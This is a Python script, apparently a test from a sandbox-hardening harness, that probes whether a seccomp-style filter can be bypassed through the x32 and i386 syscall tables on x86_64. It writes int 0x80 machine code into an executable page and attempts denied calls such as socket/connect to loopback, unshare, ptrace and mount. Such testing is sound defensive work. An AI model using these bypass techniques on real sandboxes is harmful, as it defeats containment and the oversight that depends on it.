"""Make denied system calls through the other system call tables of x86_64, which a filter
written for x86_64 numbers alone does not see: the x32 ABI (numbers with bit 30 set) and
the i386 ABI (int 0x80, from code written into an executable page below 4 GiB). With the
i386 table, open a TCP connection to a server on the host's loopback."""
import ctypes
import mmap
import os
import socket
import struct

from attack import A, P, sys_call

X32 = 0x40000000
# i386: long f(nr, a, b, c) -> int 0x80 with eax=nr, ebx=a, ecx=b, edx=c
CODE = bytes([0x53, 0x89, 0xf8, 0x89, 0xf3, 0x49, 0x89, 0xc8, 0x89, 0xd1, 0x44, 0x89, 0xc2,
              0xcd, 0x80, 0x5b, 0x48, 0x63, 0xc0, 0xc3])
mem = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40,  # MAP_32BIT
                prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
mem.write(CODE)
base = ctypes.addressof(ctypes.c_char.from_buffer(mem))
int80 = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_long,
                         ctypes.c_long)(base)


def i386(nr, a=0, b=0, c=0):
    """In a child, so that a kernel without i386 emulation (SIGSEGV) cannot end the attack."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        os.write(w, struct.pack("=q", int80(nr, a, b, c)))
        os._exit(0)
    os.close(w)
    data = os.read(r, 8)
    os.close(r)
    os.waitpid(pid, 0)
    if len(data) != 8:
        raise OSError(38, "i386 call %d: no i386 emulation (the child died)" % nr)
    v = struct.unpack("=q", data)[0]
    if v < 0:
        raise OSError(-v, "i386 call %d: %s" % (nr, os.strerror(-v)))
    return v


def i386_connect():
    """socket(AF_INET, SOCK_STREAM) and connect() through the i386 table, in one child."""
    sa = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(P["port"]), socket.inet_aton("127.0.0.1"))
    ctypes.memmove(base + 256, sa, len(sa))
    ctypes.memmove(base + 512, P["tag"].encode(), len(P["tag"]))
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        fd = int80(359, socket.AF_INET, socket.SOCK_STREAM, 0)
        res = fd if fd < 0 else int80(362, fd, base + 256, 16)
        if fd >= 0 and res == 0:
            int80(4, fd, base + 512, len(P["tag"]))  # write
        os.write(w, struct.pack("=q", res))
        os._exit(0)
    os.close(w)
    data = os.read(r, 8)
    os.close(r)
    os.waitpid(pid, 0)
    if len(data) != 8:
        raise OSError(38, "no i386 emulation")
    v = struct.unpack("=q", data)[0]
    if v < 0:
        raise OSError(-v, "i386 socket/connect: %s" % os.strerror(-v))
    return v


A.attempt("i386_getpid", i386, 20)             # works wherever i386 emulation does
A.attempt("i386_socket", i386, 359, socket.AF_INET, socket.SOCK_STREAM, 0)
A.attempt("i386_connect", i386_connect)


def i386_socketcall():
    """socketcall(SYS_SOCKET, [AF_INET, SOCK_STREAM, 0]): the multiplexed i386 socket call."""
    ctypes.memmove(base + 768, struct.pack("=III", socket.AF_INET, socket.SOCK_STREAM, 0), 12)
    return i386(102, 1, base + 768)


A.attempt("i386_socketcall", i386_socketcall)
A.attempt("i386_unshare", i386, 310, 0x10000000)   # CLONE_NEWUSER
A.attempt("i386_ptrace", i386, 26, 0, 0, 0)        # PTRACE_TRACEME
A.attempt("i386_mount", i386, 21, 0, 0, 0)
A.attempt("x32_getpid", sys_call, X32 | 39)        # ENOSYS where the kernel has no x32
A.attempt("x32_socket", sys_call, X32 | 41, socket.AF_INET, socket.SOCK_STREAM, 0)
A.attempt("x32_unshare", sys_call, X32 | 272, 0x10000000)
A.attempt("x32_ptrace", sys_call, X32 | 521, 0, 0, 0, 0)
A.finish(reraise="i386_socket")
